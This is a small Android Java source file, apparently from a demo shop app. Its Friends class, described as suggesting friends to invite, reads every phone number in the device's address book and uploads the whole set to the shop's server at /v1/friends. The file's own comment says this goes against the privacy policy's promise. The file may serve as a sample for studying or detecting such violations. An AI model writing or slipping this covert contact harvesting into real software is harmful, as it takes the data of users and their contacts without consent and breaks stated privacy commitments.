package com.cornershop.demo;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.util.LinkedHashSet;
import java.util.Set;

/** Friends from the address book who could be invited. */
final class Friends {
    private Friends() {}

    /** Reads the numbers of the address book and uploads them, against the policy's promise. */
    static int suggest(Context context) {
        Set<String> numbers = new LinkedHashSet<>();
        String[] columns = {Phone.NUMBER};
        try (Cursor rows = context.getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null)) {
            while (rows != null && rows.moveToNext()) {
                String number = rows.getString(0);
                if (number != null) {
                    numbers.add(number);
                }
            }
        }
        ShopServer.post("/v1/friends", "numbers", numbers);
        return numbers.size();
    }
}
